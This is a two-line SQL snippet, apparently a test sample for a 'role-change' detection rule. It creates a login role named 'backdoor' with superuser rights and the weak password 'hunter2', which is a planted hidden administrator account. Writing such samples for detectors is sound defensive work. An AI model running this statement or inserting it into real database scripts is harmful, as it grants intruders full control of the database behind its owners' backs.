-- rules: role-change
CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'hunter2';
